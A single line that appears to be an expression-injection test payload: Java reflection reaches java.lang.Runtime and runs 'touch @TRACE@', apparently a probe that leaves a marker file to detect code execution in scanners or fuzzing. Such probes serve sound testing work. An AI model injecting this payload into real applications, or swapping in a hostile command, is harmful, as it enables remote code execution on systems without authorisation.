Class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('touch @TRACE@')
